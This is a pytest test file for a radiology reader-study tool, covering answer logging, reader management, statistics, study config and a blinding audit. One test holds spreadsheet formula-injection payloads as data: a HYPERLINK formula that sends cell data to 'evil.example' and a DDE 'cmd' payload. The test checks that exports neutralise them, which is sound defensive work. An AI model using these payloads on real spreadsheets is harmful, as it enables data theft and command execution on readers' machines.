"""Reader study, what a real study cannot live without: the append-only answer log (first and final
answers, locks, stale clicks refused, time per display), formula-safe exports, reader management,
store permissions, honest statistics, the study config, and the blinding audit (a study built from
real BUSI and phantom-blurred passes; a hand-made leaky one fails; create refuses a leaking encoder)."""

import csv
import io
import json
import os
import sqlite3
import stat
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from _study_fixtures import make_inputs, make_study, simulate_ratings
from usbench.cli import main
from usbench.errors import InputError, NotEnoughImagesError
from usbench.reader_study import analysis as A
from usbench.reader_study import builder as B
from usbench.reader_study import export as E
from usbench.reader_study import mrmc as M
from usbench.reader_study.audit import BlindingLeakError, audit_study, separation_test
from usbench.reader_study.builder import open_store, read_key
from usbench.reader_study.store import COMMENT_MAX, LockedError, RatingsStore, SequenceItem, StaleAnswerError

DATA = Path(os.environ.get("USBENCH_TEST_DATA", Path(__file__).resolve().parents[1].parent / "shared" / "data"))


def _store(tmp_path, n=3) -> RatingsStore:
    s = RatingsStore(tmp_path / "r.sqlite", create=True)
    s.add_reader("ann", "tok-ann")
    s.set_sequence("ann", [SequenceItem(i, f"i{i}", f"i{i}", "main") for i in range(n)])
    return s


def _err(capsys):
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("error: "), err
    return err[0]


# --------------------------------------------------------------------------------------------
# The answer log


def test_log_keeps_first_and_final_answers_and_is_append_only(tmp_path):
    s = _store(tmp_path)
    d = s.show("ann", "i0", "tab1", now=10.0)
    assert s.answer("ann", d.id, "i0", 2, "speckle looks tiled", now=14.0)
    d2 = s.show("ann", "i0", "tab1", now=20.0)  # going back: a new display of the same item
    assert d2.id != d.id
    assert s.answer("ann", d2.id, "i0", 5, "no, the margin is too sharp", now=26.5)
    cur = s.ratings_of("ann")["i0"]
    assert (cur["rating"], cur["comment"], cur["revisions"], cur["seconds"]) == (5, "no, the margin is too sharp", 1, 6.5)
    assert (cur["first_rating"], cur["first_comment"]) == (2, "speckle looks tiled")
    log = s.answer_log("ann")
    assert [(a["value"], a["revision"], a["shown_at"], a["answered_at"]) for a in log] == [(2, 0, 10.0, 14.0), (5, 1, 20.0, 26.5)]
    # the log cannot be rewritten, not even with SQL
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        s.conn.execute("UPDATE answers SET value=1")
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        s.conn.execute("DELETE FROM answers")
    # the same answer again (value and comment) is not a revision
    d3 = s.show("ann", "i0", "tab1", now=30.0)
    assert s.answer("ann", d3.id, "i0", 5, "no, the margin is too sharp", now=31.0) is False
    assert len(s.answer_log("ann")) == 2
    s.close()


def test_stale_clicks_are_refused(tmp_path):
    s = _store(tmp_path)
    d0 = s.show("ann", "i0", "tab1")
    assert s.answer("ann", d0.id, "i0", 5)
    # pressing 1 right after 5, before the next image was drawn: the button still carries i0's display
    with pytest.raises(StaleAnswerError):
        s.answer("ann", d0.id, "i0", 1)
    d1 = s.show("ann", "i1", "tab1")
    with pytest.raises(StaleAnswerError):  # an old display, even for the item shown now
        s.answer("ann", d0.id, "i1", 1)
    with pytest.raises(StaleAnswerError):  # the current display, but drawn for another item
        s.answer("ann", d1.id, "i0", 1)
    # a second tab opens i1: the first tab's page is stale now
    d1b = s.show("ann", "i1", "tab2")
    with pytest.raises(StaleAnswerError):
        s.answer("ann", d1.id, "i1", 3)
    assert s.answer("ann", d1b.id, "i1", 3)
    assert {k: v["rating"] for k, v in s.ratings_of("ann").items()} == {"i0": 5, "i1": 3}
    assert len(s.answer_log("ann")) == 2
    s.close()


def test_time_is_per_display(tmp_path):
    s = _store(tmp_path)
    assert s.show("ann", "i0", "before-crash", now=100.0).shown_at == 100.0
    assert s.show("ann", "i0", "before-crash", now=105.0).shown_at == 100.0  # a rerun of the page keeps its clock
    # the server crashed; the reader comes back a minute later in a new session
    d = s.show("ann", "i0", "after-crash", now=160.0)
    assert s.answer("ann", d.id, "i0", 4, now=164.0)
    assert s.ratings_of("ann")["i0"]["seconds"] == 4.0
    s.close()


def test_answers_lock_when_finished_until_an_admin_unlocks(tmp_path, capsys):
    study, links = make_study(tmp_path, readers=("ann", "bob"), n_per_source=3)
    simulate_ratings(study)
    with open_store(study) as s:
        assert s.finished("ann")
        item = s.sequence("ann")[0].item
        old = s.ratings_of("ann")[item]["rating"]
        d = s.show("ann", item, "x")
        with pytest.raises(LockedError):
            s.answer("ann", d.id, item, 6 - old if old != 3 else 1)
    assert main(["study", "readers", "unlock", str(study), "ann"]) == 0
    with open_store(study) as s:
        assert not s.finished("ann")
        d = s.show("ann", item, "x")
        new = 1 if old != 1 else 5
        assert s.answer("ann", d.id, item, new)
        assert not s.finished("ann")  # revising an earlier answer keeps the reader unlocked...
        last = s.sequence("ann")[-1].item
        assert s.answer("ann", s.show("ann", last, "x").id, last, 3, comment="at the end again")
        assert s.finished("ann")  # ...until they answer the last item again
        assert [e[0] for e in s.conn.execute("SELECT what FROM events WHERE reader='ann' ORDER BY id")] == ["add", "finished", "unlock", "finished"]
    row = pd.read_csv(io.StringIO(E.long_csv(study))).set_index(["reader", "item"]).loc[("ann", item)]
    assert (row["first_rating"], row["rating"], row["revisions"]) == (old, new, 1)


def test_comment_cap(tmp_path):
    s = _store(tmp_path)
    d = s.show("ann", "i0")
    with pytest.raises(InputError, match=f"more than {COMMENT_MAX}"):
        s.answer("ann", d.id, "i0", 3, "x" * (COMMENT_MAX + 1))
    assert s.answer("ann", d.id, "i0", 3, "x" * COMMENT_MAX)
    s.close()


def test_export_neutralises_formulas(tmp_path):
    study, _ = make_study(tmp_path, readers=("ann", "bob"), n_per_source=3)
    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
             "fine = 1", "-"]
    with open_store(study) as s:
        seq = s.sequence("ann")
        for it, text in zip(seq, nasty):
            assert s.rate("ann", it.item, 2, text)
    for fmt in ("long", "log"):
        text = E.WRITERS[fmt](study)
        rows = list(csv.DictReader(io.StringIO(text)))
        col = "comment"
        got = [r[col] for r in rows if r[col]]
        # every cell a spreadsheet would evaluate starts with ' now; the others are untouched
        stored = [t.strip() for t in nasty]  # the store keeps comments without surrounding white space
        assert sorted(got) == sorted(("'" + t if t[0] in "=+-@" else t) for t in stored), fmt
        for r in rows:
            for v in r.values():
                assert not (v and v[0] in "=+@\t\r") and not (v and v[0] == "-" and not _is_number(v))
    long = pd.read_csv(io.StringIO(E.long_csv(study)))
    assert long["rating"].dtype.kind == "i"  # numbers stay numbers
    # tab and CR at the start of any text cell are neutralised too (here through the function itself)
    text = E.safe_csv(pd.DataFrame({"c": ["\tx", "\ry", "ok", None], "n": [-1.5, 2, 3, 4]}))
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["c", "n"], ["'\tx", "-1.5"], ["'\ry", "2.0"], ["ok", "3.0"], ["", "4.0"]]
    assert E.safe_csv(pd.DataFrame({"c": ["a\rb"]})) == '"c"\n"a\rb"\n'


def _is_number(v: str) -> bool:
    try:
        float(v)
        return True
    except ValueError:
        return False


# --------------------------------------------------------------------------------------------
# Store files and reader management


def test_store_files_are_private(tmp_path):
    study, _ = make_study(tmp_path, readers=("ann",), n_per_source=3)
    with open_store(study) as s:
        s.rate("ann", s.sequence("ann")[0].item, 3)
        for suffix in ("", "-wal", "-shm"):
            p = Path(f"{study / 'ratings.sqlite'}{suffix}")
            assert p.exists() and stat.S_IMODE(p.stat().st_mode) == 0o600, suffix


def test_readers_add_revoke_reissue_and_expiry(tmp_path, capsys):
    study, links = make_study(tmp_path, readers=("ann", "bob"), n_per_source=3, token_days=2)
    with open_store(study) as s:
        assert s.reader_for_token(links.reader_tokens["ann"]) == ("ann", False)
        assert s.reader_for_token(links.reader_tokens["ann"], now=time.time() + 3 * 86400) is None  # expired
        s.rate("ann", s.sequence("ann")[0].item, 4)
    capsys.readouterr()
    assert main(["study", "readers", "add", str(study), "carol"]) == 0
    carol = capsys.readouterr().out.strip().split("\t")[1].split("token=")[1]
    assert main(["study", "readers", "add", str(study), "carol"]) == 2 and "already has a reader" in _err(capsys)
    assert main(["study", "readers", "reissue", str(study), "ann"]) == 0
    ann2 = capsys.readouterr().out.strip().split("token=")[1]
    assert main(["study", "readers", "revoke", str(study), "bob"]) == 0
    assert main(["study", "readers", "revoke", str(study), "zed"]) == 2 and "no reader 'zed'" in _err(capsys)
    with open_store(study) as s:
        assert s.reader_for_token(carol) == ("carol", False)
        seq_c = s.sequence("carol")
        assert sorted(i.image_id for i in seq_c) == sorted(i.image_id for i in s.sequence("ann"))
        assert [i.image_id for i in seq_c] != [i.image_id for i in s.sequence("ann")]  # an order of its own
        assert s.reader_for_token(links.reader_tokens["ann"]) is None and s.reader_for_token(ann2) == ("ann", False)
        assert len(s.ratings_of("ann")) == 1  # answers kept across a re-issue
        assert s.reader_for_token(links.reader_tokens["bob"]) is None
    text = (study / "admin" / "links.txt").read_text()
    assert carol in text and ann2 in text and links.reader_tokens["bob"] not in text and links.reader_tokens["ann"] not in text


# --------------------------------------------------------------------------------------------
# Statistics


def test_covariance_honoured_or_refused(tmp_path, capsys):
    two, _ = make_study(tmp_path / "two", readers=("a", "b", "c"), n_per_source=6)
    simulate_ratings(two)
    # nested design: jackknife is refused, never silently swapped for DeLong
    assert main(["study", "analyze", str(two), "--cov", "jackknife", "--boot", "20"]) == 2
    assert "nested" in _err(capsys) and not (two / "analysis.json").exists()
    one, _ = make_study(tmp_path / "one", readers=("a", "b", "c"), n_per_source=6, generators=1)
    # skill 0.5: with the default skill every reader could separate the 6 + 6 cases perfectly (the
    # blinded order is random per build), and then both covariances are 0 and cannot be told apart
    simulate_ratings(one, skill=0.5)
    assert main(["study", "analyze", str(one), "--cov", "jackknife", "--boot", "20"]) == 0
    res = json.loads((one / "analysis.json").read_text())
    assert res["cov"] == "jackknife"
    # the per-generator interval is the jackknife one: equal to the stand-alone OR analysis with that covariance
    main_rows = A.load_long(one)
    main_rows = main_rows[main_rows["block"] == "main"]
    data = A._data_for(A.mrmc_table(main_rows))
    jack, delong = M.auc_covariance(data, "jackknife"), M.auc_covariance(data, "delong")
    ci = M.single_treatment_ci(M.auc_matrix(data)[0], jack, 0.05)
    g = res["per_generator"]["gen0-run"]
    assert g["reader_auc_ci_low"] == pytest.approx(max(ci["ci_low"], 0)) and g["reader_auc_ci_high"] == pytest.approx(min(ci["ci_high"], 1))
    assert g["case_variance"] == pytest.approx(np.diag(jack).mean())
    assert g["case_variance"] != pytest.approx(np.diag(delong).mean())  # the two differ, so a silent switch would show


def test_partial_refuses_cases_with_too_few_readers(tmp_path):
    study, _ = make_study(tmp_path, readers=("a", "b", "c"), n_per_source=6)
    simulate_ratings(study)
    # a fourth reader who rated one case: only that case would have all four readers
    from usbench.reader_study.builder import add_reader

    add_reader(study, "d")
    with open_store(study) as s:
        s.rate("d", next(i for i in s.sequence("d") if i.block == "main").item, 3)
    with pytest.raises(NotEnoughImagesError, match="rated by all 4 readers"):
        A.analyze(study, n_boot=20, partial=True)
    with pytest.raises(InputError, match="not rated every case"):
        A.analyze(study, n_boot=20)
    # once d is revoked (and rated little), the partial analysis waits for the three others only...
    # ...but d's one rating still counts: revoked readers who rated stay in the count
    from usbench.reader_study.builder import revoke_reader

    revoke_reader(study, "d")
    with pytest.raises(NotEnoughImagesError):
        A.analyze(study, n_boot=20, partial=True)


def test_partial_analysis_of_finished_cases(tmp_path):
    study, _ = make_study(tmp_path, readers=("a", "b"), n_per_source=6)
    simulate_ratings(study)
    full = A.analyze(study, n_boot=50)
    part = A.analyze(study, n_boot=50, partial=True)
    assert part["n_cases"] == full["n_cases"] and part["partial"] and not full["partial"]
    assert part["per_generator"]["gen0-run"]["reader_auc"] == pytest.approx(full["per_generator"]["gen0-run"]["reader_auc"])


def test_leaderboard_reads_only_its_own_analysis(tmp_path):
    a, _ = make_study(tmp_path / "a", readers=("r1", "r2"), n_per_source=4)
    b, _ = make_study(tmp_path / "b", readers=("r1", "r2"), n_per_source=4)
    for s in (a, b):
        simulate_ratings(s)
    A.write_analysis(a, A.analyze(a, n_boot=20))
    assert set(A.leaderboard_columns(a)) == {"gen0-run", "gen1-run"}
    (b / "analysis.json").write_text((a / "analysis.json").read_text())  # a copied file
    with pytest.raises(InputError, match="does not belong"):
        A.leaderboard_columns(b)


def test_afc_block_and_its_statistics(tmp_path):
    study, _ = make_study(tmp_path, readers=("a", "b"), n_per_source=4, afc_pairs=3)
    key = {r["image_id"]: r for r in read_key(study)}
    picks = {}
    with open_store(study) as s:
        for reader in ("a", "b"):
            seq = s.sequence(reader)
            pairs = [i for i in seq if i.task == "2afc"]
            assert len(pairs) == 6 and all(i.block == "2afc" for i in pairs) and seq[-6:] == pairs
            assert {key[i.image_id]["truth"] + key[i.image_id_b]["truth"] for i in pairs} == {1}  # one real, one synthetic
            for k, it in enumerate(pairs):
                real_left = key[it.image_id]["truth"] == 0
                value = (1 if real_left else 2) if (k % 3 or reader == "a") else (2 if real_left else 1)
                s.rate(reader, it.item, value)
                syn = key[it.image_id_b if real_left else it.image_id]["generator"]
                picks.setdefault(syn, {}).setdefault(reader, []).append(int(value == (1 if real_left else 2)))
        with pytest.raises(InputError, match="outside 1..2"):
            it = s.sequence("a")[0]
            s.answer("a", s.show("a", it.item).id, it.item, 3, max_value=2)
    res = A.afc_stats(A.load_afc(study), n_boot=50)
    for g, by_reader in picks.items():
        assert res[g]["accuracy"] == pytest.approx(np.mean([np.mean(v) for v in by_reader.values()]))
        assert res[g]["n_pairs"] == 3 and res[g]["n_readers"] == 2
    # sides are balanced per reader by a coin, not by source
    assert audit_study(study)["passed"]


# --------------------------------------------------------------------------------------------
# The study config


def test_create_from_config(tmp_path, capsys):
    real, runs = make_inputs(tmp_path)
    (tmp_path / "intro.md").write_text("## Welcome\n\nRate **every** image.\n")
    (tmp_path / "study.toml").write_text(
        '[study]\nreaders = ["ann", "bob"]\nn_per_source = 4\nsize = 48\nafc_pairs = 2\nrepeats = 2\nwashout = 3\n'
        'instructions_file = "intro.md"\nshow_own_result = true\n'
        '[[study.questions]]\nkey = "plausible"\ntext = "Is the lesion plausible?"\noptions = ["yes", "no", "no lesion"]\n')
    out = tmp_path / "s"
    args = ["study", "create", "--config", str(tmp_path / "study.toml"), "--reference", str(real), "--out", str(out), "--size", "40"]
    for r in runs:
        args += ["--run", str(r)]
    assert main(args) == 0
    cfg = B.read_config(out)
    assert cfg["instructions"].startswith("## Welcome") and cfg["size"] == 40  # the flag wins over the file
    assert cfg["questions"] == [{"key": "plausible", "text": "Is the lesion plausible?", "options": ["yes", "no", "no lesion"]}]
    assert cfg["n_afc_pairs"] == 4 and cfg["n_repeats"] == 2 and len(cfg["study_id"]) == 16
    assert json.loads((out / "admin" / "audit.json").read_text())["passed"]
    with open_store(out) as s:
        it = s.sequence("ann")[0]
        assert s.rate("ann", it.item, 2, extras={"plausible": "no"})
    long = pd.read_csv(io.StringIO(E.long_csv(out)))
    assert long["q_plausible"].tolist() == ["no"]
    (tmp_path / "bad.toml").write_text("[study]\nreaders = ['a']\ncolour = 'red'\n")
    args[3] = str(tmp_path / "bad.toml")
    args[args.index(str(out))] = str(tmp_path / "s2")
    assert main(args) == 2 and "unknown key 'colour'" in _err(capsys)
    assert not (tmp_path / "s2").exists()


# --------------------------------------------------------------------------------------------
# Blinding audit


def test_separation_test_against_scipy():
    rng = np.random.default_rng(1)
    x = np.r_[rng.normal(0, 1, 30), rng.normal(0.8, 1, 30)]
    y = np.r_[np.zeros(30), np.ones(30)].astype(int)
    from scipy.stats import mannwhitneyu

    res = separation_test(x, y, n_perm=4000)
    u = mannwhitneyu(x[y == 1], x[y == 0]).statistic
    assert res["auc"] == pytest.approx(max(u / 900, 1 - u / 900))
    # the permutation p-value agrees with the exact/normal Mann-Whitney two-sided p within Monte-Carlo error
    assert res["p"] == pytest.approx(mannwhitneyu(x[y == 1], x[y == 0], alternative="two-sided").pvalue, abs=0.01)
    assert separation_test(np.ones(60), y) == {"auc": 0.5, "p": 1.0, "n": 60}


def _phantom_blurred_run(root: Path, n: int, size: int) -> Path:
    from usbench.generators import build_generator
    from usbench.generators.base import GenerationRequest
    from usbench.imageset import ImageSetWriter

    gen = build_generator("phantom-blurred", {})
    reqs = [GenerationRequest(id=f"pb-{i:03d}", label="benign" if i % 2 else "malignant", seed=i, size=size) for i in range(n)]
    with ImageSetWriter(root, source="phantom-blurred") as w:
        for req, img in zip(reqs, gen.generate(reqs)):
            w.add(req.id, img, label=req.label, seed=req.seed)
    (root / "run.json").write_text(json.dumps({"run_id": "phantom-blurred-test", "generator": "phantom-blurred"}))
    return root


@pytest.fixture(scope="module")
def busi_and_blurred(tmp_path_factory):
    busi = DATA / "busi" / "Dataset_BUSI_with_GT"
    if not busi.is_dir():
        pytest.skip(f"real BUSI not found at {busi} (set USBENCH_TEST_DATA)")
    tmp = tmp_path_factory.mktemp("pb")
    return busi, _phantom_blurred_run(tmp / "run", 30, 96), tmp


def _old_encoder(arr, size):
    """The encoder of usbench 0.1 (zlib level 6): compressed size follows the content."""
    from PIL import Image

    h, w = arr.shape
    s = min(h, w)
    im = Image.fromarray(np.ascontiguousarray(arr[(h - s) // 2:(h - s) // 2 + s, (w - s) // 2:(w - s) // 2 + s]), mode="L")
    im = im.resize((size, size), Image.BICUBIC)
    buf = io.BytesIO()
    im.save(buf, format="PNG", compress_level=6)
    return buf.getvalue()


def test_audit_passes_real_busi_against_phantom_blurred(busi_and_blurred, capsys):
    busi, run, tmp = busi_and_blurred
    cfg = B.StudyConfig(readers=["a", "b", "c"], n_per_source=12, size=96, repeats=3, washout=4, seed=1)
    B.create_study(busi, [run], tmp / "study", cfg)
    assert main(["study", "audit", str(tmp / "study")]) == 0
    out = capsys.readouterr().out
    assert out.startswith("PASSED")
    rep = json.loads((tmp / "study" / "admin" / "audit.json").read_text())
    by = {r["channel"]: r for r in rep["channels"]}
    for ch in ("byte size", "mtime", "dimensions", "bit depth", "PNG chunks", "metadata"):
        assert by[ch]["auc"] == 0.5, ch  # constant by construction
    assert len({p.stat().st_size for p in (tmp / "study" / "images").glob("*.png")}) == 1


def test_create_refuses_a_leaking_encoder(busi_and_blurred, monkeypatch):
    busi, run, tmp = busi_and_blurred
    monkeypatch.setattr(B, "encode_for_study", _old_encoder)
    # 30 per source: since the phantom's noise floor (simulator v3) the 0.1 encoder's size gap is
    # smaller (AUC 0.81 at 12 + 12, p = 0.009, above the Bonferroni limit 0.0045: not yet a leak)
    cfg = B.StudyConfig(readers=["a"], n_per_source=30, size=96, seed=1)
    with pytest.raises(BlindingLeakError, match="byte size"):
        B.create_study(busi, [run], tmp / "leaky", cfg)
    assert not (tmp / "leaky").exists() and not list(tmp.glob(".leaky.partial-*"))


def test_audit_fails_a_study_written_in_label_order(tmp_path, capsys):
    study, _ = make_study(tmp_path, readers=("a", "b"), n_per_source=8)
    assert main(["study", "audit", str(study)]) == 0
    capsys.readouterr()
    # hand-write the images as usbench 0.1 did: the real ones first, then each run, one after another
    key = sorted(read_key(study), key=lambda r: (r["truth"], r["generator"]))
    data = {r["image_id"]: (study / "images" / f"{r['image_id']}.png").read_bytes() for r in key}
    for r in key:
        (study / "images" / f"{r['image_id']}.png").unlink()
    t0 = time.time()
    for n, r in enumerate(key):
        p = study / "images" / f"{r['image_id']}.png"
        p.write_bytes(data[r["image_id"]])
        os.utime(p, (t0 + n, t0 + n))
    assert main(["study", "audit", str(study)]) == 2
    printed = capsys.readouterr()
    assert printed.out.startswith("FAILED") and "mtime" in printed.err
    rep = audit_study(study)
    leaks = {r["channel"] for r in rep["leaks"]}
    assert "mtime" in leaks
    inodes = [(study / "images" / f"{r['image_id']}.png").stat().st_ino for r in key]
    if inodes == sorted(inodes):  # this file system hands out inode numbers in creation order
        assert "inode" in leaks


def test_a_chance_correlation_is_drawn_again_a_built_in_one_refused(tmp_path, monkeypatch):
    """Reader orders are random draws: one that happens to track the source is drawn again; an
    order that always tracks it (a bug) is refused after the last draw."""
    real, runs = make_inputs(tmp_path)
    true_sequence = B.reader_sequence
    leaky_draws = {"left": 1}

    def sorted_by_source(key_rows, config, index):
        seq = true_sequence(key_rows, config, index)
        if leaky_draws["left"] <= 0:
            return seq
        if index == len(config.readers) - 1:
            leaky_draws["left"] -= 1
        truth = {r["image_id"]: r["truth"] for r in key_rows}
        items = sorted(seq, key=lambda it: truth[it.image_id])  # real first, then synthetic
        return [SequenceItem(p, it.item, it.image_id, it.block) for p, it in enumerate(items)]

    monkeypatch.setattr(B, "reader_sequence", sorted_by_source)
    cfg = B.StudyConfig(readers=["a", "b", "c"], n_per_source=8, size=32, seed=5)
    B.create_study(real, runs, tmp_path / "once", cfg)
    assert json.loads((tmp_path / "once" / "admin" / "audit.json").read_text())["draw"] == 2
    leaky_draws["left"] = B.DRAWS
    with pytest.raises(BlindingLeakError, match="serving order"):
        B.create_study(real, runs, tmp_path / "always", cfg)
    assert not (tmp_path / "always").exists() and not list(tmp_path.glob(".always.partial-*"))
